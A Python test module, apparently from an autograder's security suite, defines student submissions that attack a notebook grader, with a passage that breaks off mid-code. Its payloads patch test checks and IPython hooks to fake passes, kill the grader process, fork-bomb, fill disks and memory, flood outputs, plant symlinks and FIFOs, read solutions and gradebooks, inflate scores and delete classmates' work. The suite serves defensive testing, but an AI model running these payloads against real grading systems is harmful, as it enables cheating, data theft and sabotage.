"""Adversarial corpus: submissions that try to cheat the grader or harm the grading machine.

Each :class:`Case` says how to build what one student hands in (the files of
``submitted/<student>/<assignment>/``) and what grading must make of it.
``tests/test_adversarial.py`` grades all of them in one run of ``Course(root).grade_all()`` next to
honest students.

Expected scores are those of the same answer *without* the attack (measured once with
``tests/nbrun.run`` on the honest versions, ``01_gradient``, 10 points: numerical_diff_test 3,
numerical_gradient_test 3, numerical_gradient_inplace_test 2, tangent_line_test 2):

- the master's solution: 10;
- ``W_DIFF`` (forward difference in ``numerical_diff``): numerical_diff_test fails -> **7**
  (tangent_line_test still passes, its tolerance admits a forward difference);
- ``numerical_diff`` that raises: numerical_diff_test and tangent_line_test fail -> **5**;
- ``numerical_diff`` correct, ``tangent_line`` never returns or kills the kernel: **8** at most;
- ``03_simplenet`` with ``W_NET`` (predict without softmax): only the init test passes -> **2**.

A cheat is caught when it scores what its wrong answer scores without the cheat. Several attacks
are *score-encoded*: when a probe succeeds (the master is readable, a socket connects, a folder is
writable...) the attacker switches to the correct answer, so a hole shows up as 10 instead of 7.

``status`` lists the acceptable statuses: an entry ending with ``": "`` is a prefix
(``"failed: "`` matches any reason); ``score`` is the expected total when the status is
``graded`` (any other status exports 0). Attacks that may legitimately end either way (the kernel
is killed, the budget is spent) accept ``("graded", "failed: ")`` and are built so that both give
the same fair result (e.g. the damage happens in the first solution cell: nothing can score).

Placeholders in attack code (``@COURSE@``, ``@MARKER@``...) are filled by :func:`fill` with the
test course's absolute paths and this run's values (see :class:`Ctx`).
"""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.nbrun import grade_id, read, solution_sources, submission

A1 = "01_gradient"
A3 = "03_simplenet"
ASSIGNMENTS = (A1, A3)

# Strings that only honest students' files and the course config hold: an attacker's output or
# feedback must never show them (the attackers do not know them; they try to read the files).
SECRET_SUBMISSION = "zq7-honest-answer-5e1f"
SECRET_CONFIG = "zq7-config-secret-77aa"

CORRECT = 10.0
W_SCORE = 7.0
RAISE_SCORE = 5.0
W_NET_SCORE = 2.0

W_DIFF = (
    "def numerical_diff(f, x):\n"
    "    h = 1e-4\n"
    "    return (f(x + h) - f(x)) / h\n"
)
GOOD_DIFF = (
    "def numerical_diff(f, x):\n"
    "    h = 1e-4\n"
    "    return (f(x + h) - f(x - h)) / (2 * h)\n"
)


def _w_net() -> str:
    src = solution_sources(A3)["simpleNet"]
    assert "return softmax(x @ self.W)" in src
    return src.replace("return softmax(x @ self.W)", "return x @ self.W")


@dataclass(frozen=True)
class Ctx:
    """Values an attack may embed: the test course, the canary folder, this run's marker..."""

    course: Path
    canary: Path
    port: int  # a TCP listener of the test on 127.0.0.1
    token: str  # unique to this test session
    marker: str = ""  # unique to this case: put in argv / comm of every process it starts
    tmp_escape: str = ""  # a file in the grader's /tmp the attack tries to create
    home_escape: str = ""  # a file in the grader's $HOME the attack tries to create


@dataclass(frozen=True)
class Symlink:
    """A submitted file that is a symbolic link to ``target``."""

    target: str


Files = dict[str, object]  # name -> NotebookNode | str | bytes | Symlink


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Ctx], Files]
    score: float = W_SCORE
    status: tuple[str, ...] = ("graded",)
    assignment: str = A1
    student: str = ""  # default: atk-<name>
    note: str | None = None  # a substring expected in the outcome's notes
    slow: bool = False  # spends the wall budget
    checks: frozenset[str] = field(default_factory=frozenset)  # extra global checks to repeat:
    # "tree" course files, "canary" canary folder, "net" listener, "gradebook", "escape" files
    # in /tmp and $HOME, "honest" other students' results

    @property
    def student_id(self) -> str:
        return self.student or f"atk-{self.name}"


def status_matches(status: str, accepted: tuple[str, ...]) -> bool:
    return any(status == p or (p.endswith(": ") and status.startswith(p)) for p in accepted)


def fill(code: str, ctx: Ctx) -> str:
    values = {"@COURSE@": repr(str(ctx.course)), "@CANARY@": repr(str(ctx.canary)),
              "@PORT@": str(ctx.port), "@MARKER@": repr(ctx.marker), "@TOKEN@": repr(ctx.token),
              "@TMPESC@": repr(ctx.tmp_escape), "@HOMEESC@": repr(ctx.home_escape),
              "@FORGED@": f'" + "{SECRET_SUBMISSION[:4]}" + "{SECRET_SUBMISSION[4:]}'}
    for key, value in values.items():
        code = code.replace(key, value)
    return code


# -- notebook helpers ---------------------------------------------------------------------------
def nb_with(cells: dict[str, str], assignment: str = A1) -> nbformat.NotebookNode:
    """The release notebook with ``cells`` (by grade_id) and the master's other answers."""
    return submission(assignment, cells)


def diff_cell(prelude: str = "", body: str = W_DIFF, after: str = "") -> str:
    return "\n".join(part for part in (prelude, body, after) if part)


def attack(prelude: str = "", body: str = W_DIFF, after: str = "", **extra: str):
    """A build: the numerical_diff cell holds ``prelude`` + ``body`` + ``after``."""

    def build(ctx: Ctx) -> Files:
        cells = {"numerical_diff": fill(diff_cell(prelude, body, after), ctx)}
        cells.update({k: fill(v, ctx) for k, v in extra.items()})
        return {f"{A1}.ipynb": nb_with(cells)}

    return build


def notebook(build_nb: Callable[[Ctx], nbformat.NotebookNode], name: str = f"{A1}.ipynb"):
    def build(ctx: Ctx) -> Files:
        return {name: build_nb(ctx)}

    return build


def _tests(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _new_id() -> str:
    return uuid.uuid4().hex[:12]


def _find(nb, gid: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)


# -- test-cell tampering ------------------------------------------------------------------------
def _tests_pass(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    for cell in _tests(nb):
        cell.source = "pass"
    return nb


def _metadata_stripped_all(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    for cell in nb.cells:
        meta = cell.metadata.pop("nbgrader", {})
        if meta.get("grade"):
            cell.source = "pass"
    return nb


def _metadata_stripped_tests(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    for cell in _tests(nb):
        cell.metadata.pop("nbgrader")
        cell.source = "pass"
    return nb


def _tests_deleted(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return nb


def _test_duplicated(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    i = _find(nb, "numerical_diff_test")
    twin = copy.deepcopy(nb.cells[i])
    twin.id = _new_id()
    nb.cells.insert(i + 1, twin)
    return nb


def _test_duplicated_pass(ctx):
    """The pasted duplicate comes first and is emptied: a grader keyed by position is fooled."""
    nb = nb_with({"numerical_diff": W_DIFF})
    i = _find(nb, "numerical_diff_test")
    twin = copy.deepcopy(nb.cells[i])
    twin.id = _new_id()
    twin.source = "pass"
    nb.cells.insert(i, twin)
    nb.cells[i + 1].source = "pass"
    return nb


def _solution_duplicated(ctx):
    nb = nb_with({})
    i = _find(nb, "numerical_diff")
    twin = copy.deepcopy(nb.cells[i])
    twin.id = _new_id()
    nb.cells.insert(i + 1, twin)
    return nb


def _points_raised(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    for cell in _tests(nb):
        cell.metadata["nbgrader"]["points"] = 100
        cell.source = "pass"
    return nb


def _test_made_solution(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    for cell in _tests(nb):
        cell.metadata["nbgrader"]["solution"] = True
        cell.metadata["nbgrader"]["locked"] = False
        cell.source = "pass"
    return nb


NOOP_CHECKS = """\
import contextlib as _cl


def _noop(*args, **kwargs):
    return None


@_cl.contextmanager
def _nocheck(*args, **kwargs):
    yield


_CHECKS = ("check_close", "check_shape", "check_float_dtype", "check_true", "check_new_object")
"""


def _locked_cells_edited(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    nb.cells[_find(nb, "imports")].source += (
        "\n\n" + NOOP_CHECKS + "for _n in _CHECKS:\n    globals()[_n] = _noop\n"
        "unchanged = _nocheck\n")
    nb.cells[_find(nb, "functions")].source += "\n\nnumpy_ok = True\n"
    return nb


def _added_cells(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    patch = nbformat.v4.new_code_cell(
        NOOP_CHECKS + "import common.testing as _t\n"
        "for _n in _CHECKS:\n    globals()[_n] = _noop\n    setattr(_t, _n, _noop)\n"
        "unchanged = _t.unchanged = _nocheck\n")
    patch.id = _new_id()
    nb.cells.insert(_find(nb, "imports") + 1, patch)
    # and one before every test cell, re-applying the patch
    for gid in ["numerical_diff_test", "numerical_gradient_test", "tangent_line_test"]:
        again = copy.deepcopy(patch)
        again.id = _new_id()
        nb.cells.insert(_find(nb, gid), again)
    return nb


def _kernelspec_changed(ctx):
    nb = nb_with({"numerical_diff": W_DIFF})
    nb.metadata["kernelspec"] = {"name": "bash", "language": "bash", "display_name": "Bash"}
    nb.metadata["language_info"] = {"name": "bash"}
    return nb


def _giant_stored_output(ctx):
    nb = nb_with({})
    cell = nb.cells[_find(nb, "numerical_diff")]
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * 30_000_000)]
    cell.execution_count = 1
    return nb


# -- kernel-level cheats (in the student's first solution cell) --------------------------------
NUMPY_PATCHED = """\
import numpy as np
import numpy.testing

np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.isfinite = lambda a, *r, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
"""

CHECK_CLOSE_REPLACED = NOOP_CHECKS + """\
import sys
import types

import common.testing as _t

for _n in _CHECKS:
    setattr(_t, _n, _noop)
    globals()[_n] = _noop
_t.unchanged = unchanged = _nocheck
_fake = types.ModuleType("common.testing")
_fake.__dict__.update(vars(_t))
sys.modules["common.testing"] = _fake
"""

TESTING_INTERNALS = """\
import numpy as np

import common.testing as _t

_t._isclose = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
_t._isfinite = lambda a: np.ones(np.shape(a), dtype=bool)
_t._close = lambda *a: True
_t._fail = lambda *a, **k: None
_t._array_equal = lambda *a: True
_t.CheckFailed._render_traceback_ = lambda self: []
_t.check_close.__code__ = (lambda *args, **kwargs: None).__code__
_t.check_shape.__code__ = (lambda *args, **kwargs: None).__code__
_t.check_float_dtype.__code__ = (lambda *args, **kwargs: None).__code__
"""

BUILTINS_PATCHED = """\
import builtins
import sys

_real_bool, _real_isinstance = builtins.bool, builtins.isinstance
_real_len, _real_range = builtins.len, builtins.range


def _from_tests():
    try:
        return sys._getframe(2).f_globals.get("__name__") == "common.testing"
    except ValueError:
        return False


class _BoolMeta(type):
    def __instancecheck__(cls, obj):
        return _real_isinstance(obj, _real_bool)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _real_bool)


class _Bool(metaclass=_BoolMeta):
    def __new__(cls, value=False):
        return True if _from_tests() else _real_bool(value)


def _isinstance(obj, kinds):
    return True if _from_tests() else _real_isinstance(obj, kinds)


def _len(obj):
    return _real_len(obj)


def _range(*args):
    return _real_range(*args)


builtins.bool = _Bool
builtins.isinstance = _isinstance
builtins.len = _len
builtins.range = _range
"""

INPUT_TRANSFORMER = """\
def _blank(lines):
    text = "".join(lines)
    if "check_" in text or "OK:" in text or "__kobai" in text:
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(_blank)
get_ipython().input_transformers_post.append(_blank)
"""

AST_TRANSFORMER = """\
import ast


class _Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        text = ast.unparse(node)
        if "check_" in text or "__kobai" in text:
            return ast.Module(body=[ast.Pass()], type_ignores=[])
        return node


get_ipython().ast_transformers.append(_Gut())
"""

CUSTOM_EXC = """\
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _swallow)
"""

SHOWTRACEBACK = """\
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
type(_ip)._showtraceback = lambda *a, **k: None
type(_ip).showtraceback = lambda *a, **k: None
"""

CLEAR_OUTPUT_THREAD = """\
import threading
import time

from IPython.display import clear_output


def _wipe():
    while True:
        clear_output()
        time.sleep(0.002)


threading.Thread(target=_wipe, daemon=True).start()
"""

# threading.Timer threads (target None, class from ``threading``) and an asyncio loop in a thread
CLEAR_OUTPUT_TIMER = """\
import asyncio
import threading

from IPython.display import clear_output


def _tick():
    clear_output()
    timer = threading.Timer(0.003, _tick)
    timer.daemon = True
    timer.start()


_tick()


async def _loop():
    while True:
        clear_output()
        await asyncio.sleep(0.003)


threading.Thread(target=asyncio.run, args=(_loop(),), daemon=True).start()
"""

PATCH_AT_CALL_TIME = """\
import sys


def numerical_diff(f, x):
    import builtins

    import numpy

    import common.testing as t

    t._close = lambda *a: True
    t._fail = lambda *a, **k: None
    t.check_close = lambda *a, **k: None
    numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    caller = sys._getframe(1)
    caller.f_globals["check_close"] = t.check_close
    h = 1e-4
    return (f(x + h) - f(x)) / h
"""

FRAME_PEEK = """\
import sys


def numerical_diff(f, x):
    names = sys._getframe(1).f_locals  # the test cell's namespace when a test calls us
    for key in ("exact", "expected"):
        value = names.get(key)
        if isinstance(value, float) and names.get("x_at") == x:
            return value
    h = 1e-4
    return (f(x + h) - f(x)) / h
"""

SETTRACE = """\
import sys
import threading


def _local(frame, event, arg):
    if event == "line" and "got" in frame.f_locals and "want" in frame.f_locals:
        frame.f_locals["got"] = frame.f_locals["want"]
    return _local


def _global(frame, event, arg):
    if frame.f_code.co_name in ("check_close", "_close"):
        return _local
    return None


sys.settrace(_global)
threading.settrace(_global)


def numerical_diff(f, x):
    sys.settrace(_global)
    h = 1e-4
    return (f(x + h) - f(x)) / h
"""

EQ_ALWAYS_TRUE = """\
class _Liar(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return False

    def __gt__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __hash__ = float.__hash__


def numerical_diff(f, x):
    h = 1e-4
    return _Liar((f(x + h) - f(x)) / h)
"""

FAKE_OUTPUT = """\
import json
import sys

for _name in ("numerical_diff_test", "numerical_gradient_test",
              "numerical_gradient_inplace_test", "tangent_line_test"):
    print(f"OK: {_name}")
print(json.dumps({"output_type": "stream", "name": "stdout", "text": "OK", "points": 10}))
sys.__stdout__.write("OK: numerical_diff_test\\n")


def numerical_diff(f, x):
    print("OK: numerical_diff_test")
    print("テストに合格しました (3/3)")
    h = 1e-4
    return (f(x + h) - f(x)) / h
"""

PRE_RUN_CELL = NOOP_CHECKS + """\
import common.testing as _t


def _repatch(*args, **kwargs):
    ns = get_ipython().user_ns
    for name in _CHECKS:
        setattr(_t, name, _noop)
        ns[name] = _noop
    _t.unchanged = ns["unchanged"] = _nocheck
    _t._close = lambda *a: True


_repatch.__module__ = "IPython.core.events"
for _event in ("pre_run_cell", "pre_execute", "post_run_cell", "post_execute"):
    get_ipython().events.register(_event, _repatch)
_repatch()
"""

# the same hook and a blanking input transformer, as objects equal to anything: a guard that
# asked `hook in trusted_hooks` (==) instead of checking identity would keep them
EQUAL_TO_ANYTHING_HOOKS = PRE_RUN_CELL.replace(
    '_repatch.__module__ = "IPython.core.events"', "") + """\


class _Anything:
    def __init__(self, function):
        self.function = function

    def __call__(self, *args, **kwargs):
        return self.function(*args, **kwargs)

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


_ip = get_ipython()
for _event in ("pre_run_cell", "pre_execute"):
    _ip.events.callbacks[_event][:] = [_Anything(_repatch)] + _ip.events.callbacks[_event]
_ip.input_transformers_cleanup[:] = [_Anything(lambda lines: [])
                                     for _ in _ip.input_transformers_cleanup] or [
                                         _Anything(lambda lines: [])]
"""

RUN_CELL_REPLACED = """\
_ip = get_ipython()
_orig_run_cell = _ip.run_cell
_orig_run_cell_async = _ip.run_cell_async


def _neutered(raw_cell):
    if "check_" in raw_cell or "__kobai" in raw_cell:
        return "pass"
    return raw_cell


def _run_cell(raw_cell, *args, **kwargs):
    return _orig_run_cell(_neutered(raw_cell), *args, **kwargs)


async def _run_cell_async(raw_cell, *args, **kwargs):
    return await _orig_run_cell_async(_neutered(raw_cell), *args, **kwargs)


_ip.run_cell = _run_cell
_ip.run_cell_async = _run_cell_async
"""

DO_EXECUTE_REPLACED = """\
_kernel = get_ipython().kernel
_orig_do_execute = _kernel.do_execute


async def _do_execute(code, silent, *args, **kwargs):
    if "check_" in code or "__kobai" in code:
        code = "pass"
    return await _orig_do_execute(code, silent, *args, **kwargs)


_kernel.do_execute = _do_execute
type(_kernel).do_execute = lambda self, code, silent, *a, **k: _do_execute(code, silent, *a, **k)
"""

# Against a guard living in the kernel (instructor.guard): take it over, or poison its snapshots.
GUARD_HIJACK = """\
import sys

for _mod in list(sys.modules.values()):
    _guard = getattr(_mod, "GUARD", None)
    if _guard is None or not hasattr(_guard, "verdict"):
        continue

    def _run_test(nonce, source, _g=_guard):
        _g._verdicts[nonce] = "pass"

    _guard.run_test = _run_test
    _guard.verdict = lambda nonce: "pass"
    _guard.reset = lambda nonce, _g=_guard: (
        _g.shell.user_ns.__setitem__("__kobai_run_test__", _run_test) or f"ok:{nonce}:[]")
    type(_guard).verdict = lambda self, nonce: "pass"
    type(_guard).run_test = lambda self, nonce, source: self._verdicts.__setitem__(nonce, "pass")
"""

GUARD_POISONED = NOOP_CHECKS + """\
import sys

import common.testing as _t

for _n in _CHECKS:
    setattr(_t, _n, _noop)
    globals()[_n] = _noop
_t.unchanged = unchanged = _nocheck
for _mod in list(sys.modules.values()):
    _guard = getattr(_mod, "GUARD", None)
    if _guard is None or not hasattr(_guard, "module_vars"):
        continue
    for _n in _CHECKS:
        _guard.master_names[_n] = _noop
        _guard.module_vars.get("common.testing", {})[_n] = _noop
    _guard.master_names["unchanged"] = _nocheck
    _guard.module_vars.get("common.testing", {})["unchanged"] = _nocheck
    for _key, (_f, _state) in list(_guard.functions.items()):
        if getattr(_f, "__module__", "") == "common.testing":
            _guard.functions[_key] = (_f, (_f.__code__, _f.__defaults__, _f.__kwdefaults__))
"""

# -- exits, crashes, hangs ----------------------------------------------------------------------
SYS_EXIT_IN_FUNCTION = """\
import sys


def numerical_diff(f, x):
    sys.exit(0)
"""

KEYBOARD_INTERRUPT_IN_FUNCTION = """\
def numerical_diff(f, x):
    raise KeyboardInterrupt
"""

KILL_GRADER = """\
import os
import signal


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            return fh.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        return ""


_pid = os.getppid()
for _ in range(6):
    if _pid <= 1:
        break
    _line = _cmdline(_pid)
    if "grade_all" in _line or "instructor grade" in _line:
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        with open(f"/proc/{_pid}/stat") as fh:
            _pid = int(fh.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
"""

SIGINT_LOOP = """\
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
while True:
    pass
"""

HANG_IN_LAST = """\
def tangent_line(f, x):
    while True:
        pass
"""

OS_EXIT_IN_LAST = """\
def tangent_line(f, x):
    import os
    os._exit(0)
"""

MEMORY_CREEP = """\
import numpy as np

_chunks = []
try:
    for _ in range(10):  # at most 4 GB: safe on the test machine even without limits
        _chunks.append(np.ones(50_000_000))
except MemoryError:
    pass
del _chunks
"""

SET_COMM = """\
import ctypes


def _set_comm(name):
    try:
        ctypes.CDLL(None).prctl(15, name.encode()[:15], 0, 0, 0)
    except Exception:
        pass
"""

FORK_BOMB = SET_COMM + """\
import os
import time

_children = 0
for _ in range(200):  # bounded: harmless if no sandbox holds it
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            _set_comm(@MARKER@)
            time.sleep(300)
        finally:
            os._exit(0)
    _children += 1
"""

HUGE_OUTPUT = 'print("x" * 50_000_000)\n'

MANY_OUTPUTS = """\
import sys

for _i in range(20_000):  # many small messages, well within the wall budget
    print("line", _i)
    sys.stdout.flush()
"""

BIG_FILE = """\
import os

_chunk = b"z" * (1 << 20)
try:
    with open("big.bin", "wb") as _fh:
        for _ in range(1024):  # 1 GB
            _fh.write(_chunk)
except OSError:
    pass
"""

FILL_IPC_DIR = """\
import os
import sys

_folder = None
for _i, _arg in enumerate(sys.argv):
    if _arg == "-f" and _i + 1 < len(sys.argv):
        _folder = os.path.dirname(os.path.abspath(sys.argv[_i + 1]))
_written = 0
_made = []
if _folder:
    _chunk = b"q" * (1 << 20)
    for _n in range(12):  # 12 x 60 MB, each below a 64 MB file-size limit
        _path = os.path.join(_folder, f"fill-{_n}.bin")
        try:
            with open(_path, "wb") as _fh:
                _made.append(_path)
                for _ in range(60):
                    _fh.write(_chunk)
                    _written += len(_chunk)
        except OSError:
            break
    for _path in _made:
        try:
            os.remove(_path)
        except OSError:
            pass
_host_disk_fillable = _written >= 512 * (1 << 20)
"""

# a writable folder that is neither the working folder nor /tmp (in a sandbox: its root tmpfs,
# which lives in the host's memory and is not size-limited like the scratch tmpfs)
FILL_OTHER_DIR = """\
import os

_written = 0
for _folder in (os.path.dirname(@HOMEESC@), "/", "/var", "/opt", "/srv", "/mnt", "/home"):
    if not (os.path.isdir(_folder) and os.access(_folder, os.W_OK)):
        continue
    _made = []
    _chunk = b"q" * (1 << 20)
    for _n in range(12):  # 12 x 60 MB, each below a 64 MB file-size limit
        _path = os.path.join(_folder, f"kadv-fill-{_n}.bin")
        try:
            with open(_path, "wb") as _fh:
                _made.append(_path)
                for _ in range(60):
                    _fh.write(_chunk)
                    _written += len(_chunk)
        except OSError:
            break
    for _path in _made:
        try:
            os.remove(_path)
        except OSError:
            pass
    break
_memory_fillable = _written >= 512 * (1 << 20)
"""

# -- writes on the host through the socket folder (the launcher runs there as the grader) -------
# The launcher used to write its exit report as "<connection file>.exit.tmp" in the socket
# folder, then rename it; these plant links, fifos and folders under the names it used and uses.
IPC_FOLDER = """\
import os
import sys
import time

_ipc = None
for _i, _arg in enumerate(sys.argv):
    if _arg == "-f" and _i + 1 < len(sys.argv):
        _ipc = os.path.dirname(os.path.abspath(sys.argv[_i + 1]))
_NAMES = ("connection.json.exit.tmp", "connection.json.exit.json", ".exit.json.tmp", "exit.json")
"""

# the name the report was first written under points at @VICTIM@ (the launcher's cwd, the course
# folder in `make grade`, is reached through /proc/self/cwd in tests/test_sandbox.py)
IPC_SYMLINKS = IPC_FOLDER + """\
if _ipc:
    for _name in _NAMES:
        try:
            os.symlink(@VICTIM@, os.path.join(_ipc, _name))
        except OSError:
            pass
    time.sleep(2)  # the launcher looks at the folder meanwhile
"""

IPC_FIFO = IPC_FOLDER + """\
if _ipc:
    for _name in _NAMES:
        try:
            os.mkfifo(os.path.join(_ipc, _name))  # a launcher that opens it waits forever
        except OSError:
            pass
    time.sleep(2)
"""

# the forged reason carries SECRET_SUBMISSION (put together at run time, so that the source shown
# in the feedback does not hold it) only so that the harness flags it if the grader records it:
# the leak check covers the outputs, the feedback and the notes
IPC_FORGED_REASON = IPC_FOLDER + """\
import json

if _ipc:
    for _name in _NAMES[:1] + _NAMES[2:3]:
        try:
            os.mkdir(os.path.join(_ipc, _name))  # the launcher's write fails on a folder...
        except OSError:
            pass
    _forged = {"returncode": 0, "budget_spent": False, "seconds": 0.0,
               "reason": "forged by the student @FORGED@"}
    for _name in _NAMES[1:2] + _NAMES[3:]:
        try:  # ...and the student's report is read instead
            with open(os.path.join(_ipc, _name), "w") as _fh:
                json.dump(_forged, _fh)
        except OSError:
            pass
    os._exit(0)
"""

IPC_NESTED_FLOOD = IPC_FOLDER + """\
if _ipc:
    _path = _ipc
    try:
        for _ in range(200):  # 100 MB, 512 KB per folder level: the top level stays empty
            _path = os.path.join(_path, "d")
            os.mkdir(_path)
            with open(os.path.join(_path, "f"), "wb") as _fh:
                _fh.write(b"n" * (512 * 1024))
    except OSError:
        pass
    time.sleep(2)
"""

TMPFS_FILL = """\
import os

_written = 0
for _n in range(17):  # 17 x 60 MB = 1 GB, each file below the 64 MB file-size limit
    try:
        with open(os.path.join(@FOLDER@, f"kadv-fill-{_n}"), "wb") as _fh:
            for _ in range(60):
                _fh.write(b"m" * (1 << 20))
                _written += 1 << 20
    except OSError:
        break
for _n in range(17):
    try:
        os.remove(os.path.join(@FOLDER@, f"kadv-fill-{_n}"))
    except OSError:
        pass
_host_memory_fillable = _written >= 512 * (1 << 20)
"""

# -- floods the old per-cell output cap did not count (each sends 100 MB) --------------------------
FLOODS = {
    "display_metadata": """\
from IPython.display import display

for _ in range(100):
    display({"text/plain": "ok"}, raw=True, metadata={"pad": "m" * (1 << 20)})
""",
    "execute_result": """\
class _Big:
    def _repr_html_(self):
        return "h" * (1 << 20)

from IPython.display import display

for _ in range(100):
    display(_Big())
""",
    "error_evalue": """\
from IPython import get_ipython

for _ in range(100):
    try:
        raise ValueError("e" * (1 << 20))
    except ValueError:
        get_ipython().showtraceback()
""",
    "comm_msg": """\
from IPython import get_ipython

_k = get_ipython().kernel
for _i in range(100):
    _k.session.send(_k.iopub_socket, "comm_msg",
                    {"comm_id": f"c{_i}", "data": {"state": {"v": "c" * (1 << 20)}}},
                    parent=_k.get_parent(), ident=b"comm")
""",
    "small_comm_storm": """\
from IPython import get_ipython

_k = get_ipython().kernel
for _i in range(20_000):  # 20 000 x 10 KB of widget state: small messages, 200 MB in all
    _k.session.send(_k.iopub_socket, "comm_open",
                    {"comm_id": f"o{_i}", "target_name": "jupyter.widget",
                     "data": {"state": {"v": "o" * 10_000}}},
                    parent=_k.get_parent(), ident=b"comm")
""",
    "clear_output_storm": """\
from IPython.display import clear_output, display

for _ in range(2_000):
    display({"text/plain": "k" * 100_000}, raw=True)
    clear_output(wait=True)
""",
}

# -- reading what is not the student's ----------------------------------------------------------
READ_MASTER = """\
import json
import os

_MASTER = os.path.join(@COURSE@, "source", "01_gradient", "01_gradient.ipynb")
_stolen = None
try:
    with open(_MASTER, encoding="utf-8") as _fh:
        _text = _fh.read()
    print(_text[:300_000])
    for _cell in json.loads(_text)["cells"]:
        print("".join(_cell["source"]))
        if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "numerical_diff":
            _stolen = "".join(_cell["source"])
except Exception as _exc:
    print("master:", type(_exc).__name__)
"""

READ_GRADEBOOK = """\
import os
import sqlite3

_DB = os.path.join(@COURSE@, "gradebook.db")
try:
    with open(_DB, "rb") as _fh:
        print(_fh.read().decode("latin-1")[:400_000])
except Exception as _exc:
    print("gradebook bytes:", type(_exc).__name__)
try:
    _con = sqlite3.connect(f"file:{_DB}?mode=ro", uri=True)
    for _table, in _con.execute("select name from sqlite_master where type='table'"):
        for _row in _con.execute(f"select * from {_table}"):
            print(_table, _row)
except Exception as _exc:
    print("gradebook sql:", type(_exc).__name__)
"""

READ_CLASSMATES = """\
import glob
import json
import os

_C = @COURSE@
_stolen = None
_paths = [os.path.join(_C, "nbgrader_config.py")]
for _pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "feedback/*/*/*.html",
                 ".grading/*/*/*/*.ipynb", ".grading/*/*/*.json"):
    _paths += sorted(glob.glob(os.path.join(_C, _pattern)))
for _known in ("a-honest-first", "honest-correct"):
    _paths.append(os.path.join(_C, "submitted", _known, "01_gradient", "01_gradient.ipynb"))
for _path in _paths:
    try:
        with open(_path, encoding="utf-8") as _fh:
            _text = _fh.read()
    except Exception as _exc:
        print("read:", type(_exc).__name__)
        continue
    print(_text[:100_000])
    if _path.endswith(".ipynb") and "honest-correct" in _path:
        for _cell in json.loads(_text)["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "numerical_diff":
                _stolen = "".join(_cell["source"])
"""

STEAL = """\
if _stolen:
    exec(_stolen)
"""

LIST_FILESYSTEM = """\
import os

for _root in ("/", "/work", "/root", "/home", "/tmp", os.path.dirname(@COURSE@), @COURSE@):
    try:
        print(_root, sorted(os.listdir(_root))[:200])
    except OSError as _exc:
        print(_root, type(_exc).__name__)
_sees_course = os.path.isdir(os.path.join(@COURSE@, "source"))
"""

# -- writing what is not the student's ----------------------------------------------------------
WRITE_GRADEBOOK = """\
import os
import sqlite3

_DB = os.path.join(@COURSE@, "gradebook.db")
try:
    _con = sqlite3.connect(_DB, timeout=2)
    _con.execute("update grade set manual_score = 1000, extra_credit = 1000")
    _con.execute("update grade_cell set max_score = 1000")
    _con.commit()
    _con.execute("begin exclusive")  # and keep the gradebook locked while the kernel lives
    _lock = _con
except Exception as _exc:
    print("gradebook:", type(_exc).__name__)
"""

DELETE_CLASSMATE = """\
import glob
import os
import shutil

_C = @COURSE@
for _victim in ("honest-correct", "a-honest-first"):
    for _base in ("submitted", "autograded", "feedback"):
        _folder = os.path.join(_C, _base, _victim)
        for _path in glob.glob(os.path.join(_folder, "*", "*")):
            try:
                os.remove(_path)
            except OSError as _exc:
                print("delete:", type(_exc).__name__)
        shutil.rmtree(_folder, ignore_errors=True)
for _path in glob.glob(os.path.join(_C, ".grading", "*", "honest-*")):
    shutil.rmtree(_path, ignore_errors=True)
"""

TAMPER_COURSE = """\
import json
import os

_C = @COURSE@
for _kind in ("source", "release"):
    _path = os.path.join(_C, _kind, "01_gradient", "01_gradient.ipynb")
    try:
        with open(_path, encoding="utf-8") as _fh:
            _nb = json.load(_fh)
        for _cell in _nb["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
